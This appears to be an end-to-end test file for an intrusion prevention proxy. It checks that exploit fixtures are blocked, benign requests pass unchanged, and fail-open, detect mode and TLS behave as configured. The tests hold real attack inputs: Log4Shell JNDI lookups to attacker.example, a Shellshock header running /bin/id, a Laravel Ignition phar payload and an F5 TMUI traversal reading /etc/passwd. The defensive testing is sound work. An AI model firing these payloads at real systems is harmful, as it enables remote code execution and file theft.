import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { agentReporter, ipsNodeHandler } from '@palisade/ips-middleware';
import type { ModuleConfig } from '@palisade/protocol';
import { loadRuleSet, RECOMMENDED_BASE_CONFIG } from '@palisade/seclang';
import type { ModuleContext, ModuleEventInput } from '../apps/agent/src/agent-module.ts';
import { silentLogger } from '../apps/agent/src/agent-logger.ts';
import { IpsModule } from '../apps/agent/src/modules/ips/ips-module.ts';
import { sendRaw, serializeRequest } from '../apps/agent/src/modules/ips/raw-http-client.ts';
import { readPatchPack } from '../apps/agent/src/modules/ips/read-patch-pack.ts';
import { loadVirtualPatch, type VirtualPatch } from '../apps/agent/src/modules/ips/virtual-patch-pack.ts';

const repoRoot = resolve(dirname(fileURLToPath(import.meta.url)), '..');

async function waitUntil(check: () => Promise<boolean>, timeoutMs = 20_000): Promise<void> {
  const end = performance.now() + timeoutMs;
  while (performance.now() < end) {
    if (await check().catch(() => false)) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('condition not reached');
}
const packDir = join(repoRoot, 'rules/ips');

interface Seen {
  method: string;
  url: string;
  headers: [string, string][];
  body: Buffer;
}

/** The protected application: answers 200 and records exactly what reached it. */
function startUpstream(): Promise<{ server: http.Server; port: number; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = http.createServer({ requireHostHeader: false }, (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const headers: [string, string][] = [];
      for (let i = 0; i < req.rawHeaders.length; i += 2) headers.push([req.rawHeaders[i]!, req.rawHeaders[i + 1]!]);
      seen.push({ method: req.method!, url: req.url!, headers, body: Buffer.concat(chunks) });
      res.writeHead(200, { 'Content-Type': 'text/plain', 'X-Upstream': 'yes' }).end('upstream ok');
    });
  });
  server.on('upgrade', (req, socket) => {
    seen.push({ method: req.method!, url: req.url!, headers: [], body: Buffer.alloc(0) });
    socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n');
    socket.on('data', (d) => socket.write(Buffer.concat([Buffer.from('echo:'), d])));
  });
  return new Promise((r) => server.listen(0, '127.0.0.1', () => r({ server, port: (server.address() as AddressInfo).port, seen })));
}

function ctxFor(config: ModuleConfig, events: ModuleEventInput[], dataDir: string): ModuleContext {
  return {
    emit: (e) => {
      events.push(e);
      return { id: String(events.length), time: new Date().toISOString(), module: 'ips', ...e } as never;
    },
    logger: silentLogger(),
    dataDir,
    config,
  };
}

const patches: VirtualPatch[] = readPatchPack(packDir).map((f) => {
  const r = loadVirtualPatch(f);
  if (!r.ok) throw new Error(JSON.stringify(r.diagnostics));
  return r.value;
});

describe('IPS inline proxy in prevent mode with the virtual patch pack', () => {
  let upstream: Awaited<ReturnType<typeof startUpstream>>;
  let mod: IpsModule;
  const events: ModuleEventInput[] = [];
  let port = 0;
  const dir = mkdtempSync(join(tmpdir(), 'ips-e2e-'));

  before(async () => {
    upstream = await startUpstream();
    const config: ModuleConfig = {
      enabled: true,
      mode: 'prevent',
      settings: {
        services: [{ name: 'web', listen: { host: '127.0.0.1', port: 0 }, upstream: { host: '127.0.0.1', port: upstream.port } }],
        ruleSets: { patches: { dir: packDir } },
        trustedProxies: ['127.0.0.0/8'],
        eventWindowSeconds: 60,
      },
    };
    mod = new IpsModule({ flushIntervalMs: 100_000 });
    assert.deepEqual(mod.configure(config), []);
    await mod.start(ctxFor(config, events, dir));
    port = mod.listening().web!.port;
  });

  after(async () => {
    await mod.stop();
    upstream.server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('every exploit fixture is blocked and never reaches the upstream', async () => {
    const leaked: string[] = [];
    for (const p of patches) {
      for (const e of p.exploits) {
        const before = upstream.seen.length;
        const res = await sendRaw({ host: '127.0.0.1', port }, serializeRequest(e, `127.0.0.1:${port}`));
        if (res.status !== 403 || upstream.seen.length !== before)
          leaked.push(`${e.id}: status ${res.status}, upstream saw ${upstream.seen.length - before}`);
      }
    }
    assert.deepEqual(leaked, []);
  });

  test('every benign fixture reaches the upstream unchanged', async () => {
    const problems: string[] = [];
    for (const p of patches) {
      for (const b of p.benign) {
        const before = upstream.seen.length;
        const res = await sendRaw({ host: '127.0.0.1', port }, serializeRequest(b, `127.0.0.1:${port}`));
        const got = upstream.seen[before];
        if (res.status !== 200 || !got) {
          problems.push(`${b.id}: status ${res.status}`);
          continue;
        }
        if (got.method !== b.method || got.url !== Buffer.from(b.uri, 'utf8').toString('latin1'))
          problems.push(`${b.id}: request line changed to ${got.method} ${got.url}`);
        if (!got.body.equals(Buffer.from(b.body, 'utf8'))) problems.push(`${b.id}: body changed`);
        for (const [k, v] of b.headers) {
          if (k.toLowerCase() === 'connection') continue;
          const h = got.headers.find(([gk]) => gk.toLowerCase() === k.toLowerCase());
          if (!h || h[1] !== Buffer.from(v, 'utf8').toString('latin1')) problems.push(`${b.id}: header ${k} changed`);
        }
      }
    }
    assert.deepEqual(problems, []);
  });

  test('events carry rule id, CVE, peer and the client address derived from X-Forwarded-For', async () => {
    const s2045 = patches.find((p) => p.meta.id === 'CVE-2017-5638')!.exploits[0]!;
    const withXff: typeof s2045 = {
      ...s2045,
      headers: [
        ...s2045.headers,
        ['X-Forwarded-For', '198.51.100.23, 127.0.0.9'] as [string, string],
        ['Cookie', 'sid=secret-cookie-value'],
      ],
    };
    const n = events.length;
    for (let i = 0; i < 3; i++) assert.equal((await sendRaw({ host: '127.0.0.1', port }, serializeRequest(withXff, 'x'))).status, 403);
    const fresh = events.slice(n).filter((e) => (e.details as { clientAddress: string }).clientAddress === '198.51.100.23');
    assert.equal(fresh.length, 1, 'repeats are aggregated, only the first is reported at once');
    const d = fresh[0]!.details as Record<string, unknown>;
    assert.equal(d.ruleId, 9500010);
    assert.deepEqual(d.cves, ['CVE-2017-5638']);
    assert.equal(d.peerAddress, '127.0.0.1');
    assert.equal(d.action, 'blocked');
    assert.match(String(d.requestLine), /^POST \/struts2-showcase\/fileupload\/doUpload\.action HTTP\/1\.1$/);
    assert.doesNotMatch(JSON.stringify(fresh[0]), /secret-cookie-value/);
    await mod.stop();
    const agg = events.slice(n).filter((e) => (e.details as { clientAddress: string }).clientAddress === '198.51.100.23');
    assert.equal(agg.length, 2);
    assert.equal((agg[1]!.details as { count: number }).count, 2, 'the two repeats arrive as one counted event on flush');
    // Restart for the remaining tests.
    mod = new IpsModule({ flushIntervalMs: 100_000 });
  });
});

describe('IPS proxy behaviour: keep-alive, chunked bodies, WebSocket, detect mode, fail-open/closed, TLS', () => {
  let upstream: Awaited<ReturnType<typeof startUpstream>>;
  const dir = mkdtempSync(join(tmpdir(), 'ips-e2e2-'));
  before(async () => {
    upstream = await startUpstream();
  });
  after(() => {
    upstream.server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function startWith(settings: Record<string, unknown>, mode: ModuleConfig['mode'] = 'prevent', events: ModuleEventInput[] = []) {
    const config: ModuleConfig = {
      enabled: true,
      mode,
      settings: {
        services: [{ name: 'app', listen: { host: '127.0.0.1', port: 0 }, upstream: { host: '127.0.0.1', port: upstream.port } }],
        ruleSets: { patches: { dir: packDir } },
        ...settings,
      },
    };
    const m = new IpsModule({ flushIntervalMs: 100_000 });
    assert.deepEqual(m.configure(config), []);
    await m.start(ctxFor(config, events, dir));
    return { m, port: m.listening().app!.port };
  }

  test('keep-alive: several requests on one connection, a chunked exploit body is blocked', async () => {
    const { m, port } = await startWith({});
    try {
      const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
      const sockets = new Set<unknown>();
      for (let i = 0; i < 3; i++) {
        const status = await new Promise<number>((res, rej) => {
          const r = http.request({ host: '127.0.0.1', port, path: `/items/${i}`, agent }, (resp) => {
            sockets.add(resp.socket);
            resp.resume();
            resp.on('end', () => res(resp.statusCode!));
          });
          r.on('error', rej);
          r.end();
        });
        assert.equal(status, 200);
      }
      assert.equal(sockets.size, 1, 'one client connection carried all requests');
      agent.destroy();
      const before = upstream.seen.length;
      const status = await new Promise<number>((res, rej) => {
        const r = http.request(
          {
            host: '127.0.0.1',
            port,
            method: 'POST',
            path: '/_ignition/execute-solution',
            headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
          },
          (resp) => {
            resp.resume();
            res(resp.statusCode!);
          },
        );
        r.on('error', rej);
        r.write('{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x",');
        r.end('"viewFile":"phar://../storage/logs/laravel.log/test.txt"}}');
      });
      assert.equal(status, 403);
      assert.equal(upstream.seen.length, before);
      const okStatus = await new Promise<number>((res, rej) => {
        const r = http.request(
          {
            host: '127.0.0.1',
            port,
            method: 'POST',
            path: '/api/notes',
            headers: { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
          },
          (resp) => {
            resp.resume();
            res(resp.statusCode!);
          },
        );
        r.on('error', rej);
        r.write('{"title":"Groceries",');
        r.end('"items":["milk","bread"]}');
      });
      assert.equal(okStatus, 200);
      assert.equal(upstream.seen.at(-1)!.body.toString(), '{"title":"Groceries","items":["milk","bread"]}');
    } finally {
      await m.stop();
    }
  });

  test('an upstream that closes an idle keep-alive connection as it is reused: GET retried once, POST not', async () => {
    // Raw upstream: answers the first request on a connection with keep-alive, then drops the
    // connection at the next request (what an idle timeout racing with reuse looks like).
    let connections = 0;
    const flaky = net.createServer((sock) => {
      connections++;
      let requests = 0;
      let buf = '';
      sock.on('data', (d) => {
        buf += d.toString('latin1');
        if (!buf.includes('\r\n\r\n')) return;
        buf = '';
        if (++requests > 1) return void sock.destroy();
        sock.write('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok');
      });
    });
    await new Promise<void>((r) => flaky.listen(0, '127.0.0.1', r));
    const config: ModuleConfig = {
      enabled: true,
      mode: 'prevent',
      settings: {
        services: [
          {
            name: 'app',
            listen: { host: '127.0.0.1', port: 0 },
            upstream: { host: '127.0.0.1', port: (flaky.address() as AddressInfo).port },
          },
        ],
        ruleSets: { patches: { dir: packDir } },
      },
    };
    const m = new IpsModule({ flushIntervalMs: 100_000 });
    assert.deepEqual(m.configure(config), []);
    await m.start(ctxFor(config, [], dir));
    const port = m.listening().app!.port;
    const get = (method: string) =>
      sendRaw(
        { host: '127.0.0.1', port },
        serializeRequest({ method, uri: '/', headers: [], body: method === 'POST' ? 'a=1' : '' }, `127.0.0.1:${port}`),
      );
    try {
      assert.equal((await get('GET')).status, 200);
      assert.equal((await get('GET')).status, 200, 'the GET on the dropped pooled connection was sent again on a new one');
      assert.equal(connections, 2);
      assert.equal((await get('POST')).status, 502, 'a POST is never sent twice');
    } finally {
      await m.stop();
      flaky.close();
    }
  });

  test('WebSocket upgrade is inspected, then passed through both ways', async () => {
    const { m, port } = await startWith({});
    try {
      const talk = (extra: string) =>
        new Promise<string>((res) => {
          const s = net.connect(port, '127.0.0.1', () => {
            s.write(
              `GET /chat HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${extra}\r\n`,
            );
          });
          let buf = '';
          s.on('data', (d) => {
            buf += d.toString();
            if (buf.includes('101') && !buf.includes('echo:')) s.write('hello');
            if (buf.includes('echo:hello') || buf.startsWith('HTTP/1.1 403')) s.destroy();
          });
          s.on('close', () => res(buf));
          setTimeout(() => s.destroy(), 5000).unref();
        });
      const ok = await talk('');
      assert.match(ok, /^HTTP\/1\.1 101/);
      assert.match(ok, /echo:hello/);
      const bad = await talk('User-Agent: ${jndi:ldap://attacker.example/a}\r\n');
      assert.match(bad, /^HTTP\/1\.1 403/);
    } finally {
      await m.stop();
    }
  });

  test('detect mode reports but never blocks; per-rule detect override lets one rule pass', async () => {
    const events: ModuleEventInput[] = [];
    const { m, port } = await startWith({}, 'detect', events);
    try {
      const r = await sendRaw(
        { host: '127.0.0.1', port },
        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'),
      );
      assert.equal(r.status, 200);
      assert.equal(events.at(-1)?.type, 'ips.detected');
    } finally {
      await m.stop();
    }
    const ev2: ModuleEventInput[] = [];
    const o = await startWith(
      {
        overrides: [
          { ruleId: 9500080, action: 'detect' },
          { ruleId: 9500050, action: 'disable' },
        ],
      },
      'prevent',
      ev2,
    );
    try {
      const shell = await sendRaw(
        { host: '127.0.0.1', port: o.port },
        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '() { :; }; /bin/id']], body: '' }, 'x'),
      );
      assert.equal(shell.status, 200);
      assert.equal(ev2.at(-1)?.type, 'ips.detected');
      const log4 = await sendRaw(
        { host: '127.0.0.1', port: o.port },
        serializeRequest({ method: 'GET', uri: '/', headers: [['User-Agent', '${jndi:ldap://attacker.example/a}']], body: '' }, 'x'),
      );
      assert.equal(log4.status, 200, 'disabled rule does not block');
      const other = await sendRaw(
        { host: '127.0.0.1', port: o.port },
        serializeRequest({ method: 'GET', uri: '/SetupWizard.aspx/x', headers: [], body: '' }, 'x'),
      );
      assert.equal(other.status, 403, 'other rules still block');
    } finally {
      await o.m.stop();
    }
  });

  test('engine failure: fail-open forwards, fail-closed answers 503, the service stays up', async () => {
    // The engine runs in-process (no worker to kill): a rule set with no phase table makes every
    // transaction throw, which is what a crashing engine looks like to the proxy.
    for (const failMode of ['open', 'closed'] as const) {
      const events: ModuleEventInput[] = [];
      const { m, port } = await startWith({ failMode }, 'prevent', events);
      try {
        const proxy = (m as unknown as { proxies: Map<string, { update(o: unknown): void }> }).proxies.get('app')!;
        proxy.update({
          ruleSet: {
            config: { ruleEngine: 'On', requestBodyAccess: true, requestBodyLimit: 1 << 20 },
            phases: null,
            rules: [],
            ruleCount: 0,
          },
        });
        const before = upstream.seen.length;
        const r = await sendRaw(
          { host: '127.0.0.1', port },
          serializeRequest({ method: 'GET', uri: '/health', headers: [], body: '' }, 'x'),
        );
        if (failMode === 'open') {
          assert.equal(r.status, 200);
          assert.equal(upstream.seen.length, before + 1);
        } else {
          assert.equal(r.status, 503);
          assert.equal(upstream.seen.length, before);
        }
        assert.equal(events.at(-1)?.type, `ips.fail-${failMode}`);
      } finally {
        await m.stop();
      }
    }
  });

  test('body limit: Reject answers 413 without reaching the upstream; ProcessPartial inspects the prefix and forwards all', async () => {
    const big = `{"note":"${'a'.repeat(3000)}"}`;
    const rej = await startWith({ bodyLimit: 1024 });
    try {
      const before = upstream.seen.length;
      const r = await sendRaw(
        { host: '127.0.0.1', port: rej.port },
        serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'application/json']], body: big }, 'x'),
      );
      assert.equal(r.status, 413);
      assert.equal(upstream.seen.length, before);
    } finally {
      await rej.m.stop();
    }
    const part = await startWith({ bodyLimit: 1024, bodyLimitAction: 'ProcessPartial' });
    try {
      const r = await sendRaw(
        { host: '127.0.0.1', port: part.port },
        serializeRequest({ method: 'POST', uri: '/api/notes', headers: [['Content-Type', 'text/plain']], body: big }, 'x'),
      );
      assert.equal(r.status, 200);
      assert.equal(upstream.seen.at(-1)!.body.toString(), big);
    } finally {
      await part.m.stop();
    }
  });

  test('engine worker: a pathological request or a killed worker never takes the service down', async () => {
    // A backreference keeps this pattern on the backtracking engine; 40 a's and a b would take
    // the JS regex engine longer than the age of the machine.
    const evil = { seclang: [{ name: 'redos', text: String.raw`SecRule ARGS:q "@rx ^(a+)+\1$" "id:9599901,phase:2,pass,nolog,t:none"` }] };
    for (const failMode of ['closed', 'open'] as const) {
      const events: ModuleEventInput[] = [];
      const { m, port } = await startWith(
        { failMode, engineWorker: { timeoutMs: 300 }, ruleSets: { patches: { dir: packDir }, ...evil } },
        'prevent',
        events,
      );
      try {
        const send = (uri: string, headers: [string, string][] = []) =>
          sendRaw({ host: '127.0.0.1', port }, serializeRequest({ method: 'GET', uri, headers, body: '' }, 'x'));
        assert.equal((await send('/ok?q=hello')).status, 200);
        assert.equal((await send('/', [['User-Agent', '() { :; }; /bin/id']])).status, 403, 'the worker blocks exploits');
        const t0 = performance.now();
        const stuck = await send(`/search?q=${'a'.repeat(40)}b`);
        assert.ok(performance.now() - t0 < 5000, 'answered within the budget, not after the regex finishes');
        assert.equal(stuck.status, failMode === 'closed' ? 503 : 200);
        assert.equal(events.at(-1)?.type, `ips.fail-${failMode}`);
        await waitUntil(async () => (await send('/ok?q=again')).status === 200);
        if (failMode === 'open') continue;
        const pools = (m as unknown as { pools: Map<string, { kill(): Promise<void>; restarts: number }> }).pools;
        await [...pools.values()][0]!.kill();
        await waitUntil(async () => (await send('/ok?q=after-kill')).status === 200);
        assert.equal((await send('/', [['User-Agent', '() { :; }; /bin/id']])).status, 403, 'a fresh worker protects again');
        assert.ok([...pools.values()][0]!.restarts >= 2);
      } finally {
        await m.stop();
      }
    }
  });

  test('a Node app with the middleware reports its detections to the local agent module', async () => {
    const events: ModuleEventInput[] = [];
    const { m } = await startWith({ trustedProxies: ['127.0.0.0/8'] }, 'prevent', events);
    const report = agentReporter(join(dir, 'middleware.sock'), 'shop-api');
    const rs = loadRuleSet([
      { name: 'base', text: RECOMMENDED_BASE_CONFIG },
      { name: 'p', text: patches.find((p) => p.meta.id === 'CVE-2021-44228')!.ruleConf },
    ]);
    assert.ok(rs.ok);
    const app = http.createServer(ipsNodeHandler((_req, res) => res.end('app ok'), { ruleSet: rs.value, onDetection: report }));
    await new Promise<void>((r) => app.listen(0, '127.0.0.1', () => r()));
    try {
      const port = (app.address() as AddressInfo).port;
      const r = await sendRaw(
        { host: '127.0.0.1', port },
        serializeRequest(
          { method: 'GET', uri: '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D', headers: [['X-Forwarded-For', '198.51.100.8']], body: '' },
          'x',
        ),
      );
      assert.equal(r.status, 403);
      await waitUntil(async () => events.some((e) => e.type === 'ips.blocked'));
      const d = events.find((e) => e.type === 'ips.blocked')!.details as Record<string, unknown>;
      assert.equal(d.service, 'app:shop-api');
      assert.equal(d.ruleId, 9500050);
      assert.deepEqual(d.cves, ['CVE-2021-44228']);
      assert.equal(d.clientAddress, '198.51.100.8');
      assert.equal(report.stats.sent, 1);
    } finally {
      report.close();
      app.close();
      await m.stop();
    }
  });

  test('TLS termination with a given certificate', async () => {
    const cert = join(dir, 'c.pem');
    const key = join(dir, 'k.pem');
    execFileSync(
      'openssl',
      ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=localhost'],
      { stdio: 'ignore' },
    );
    const config: ModuleConfig = {
      enabled: true,
      mode: 'prevent',
      settings: {
        services: [
          {
            name: 'tls',
            listen: { host: '127.0.0.1', port: 0 },
            upstream: { host: '127.0.0.1', port: upstream.port },
            tls: { certFile: cert, keyFile: key },
          },
        ],
        ruleSets: { patches: { dir: packDir } },
      },
    };
    const m = new IpsModule();
    assert.deepEqual(m.configure(config), []);
    await m.start(ctxFor(config, [], dir));
    try {
      const port = m.listening().tls!.port;
      assert.equal(
        (
          await sendRaw(
            { host: '127.0.0.1', port, tls: true },
            serializeRequest({ method: 'GET', uri: '/index.html', headers: [], body: '' }, 'x'),
          )
        ).status,
        200,
      );
      assert.equal(
        (
          await sendRaw(
            { host: '127.0.0.1', port, tls: true },
            serializeRequest(
              { method: 'GET', uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', headers: [], body: '' },
              'x',
            ),
          )
        ).status,
        403,
      );
    } finally {
      await m.stop();
    }
  });
});
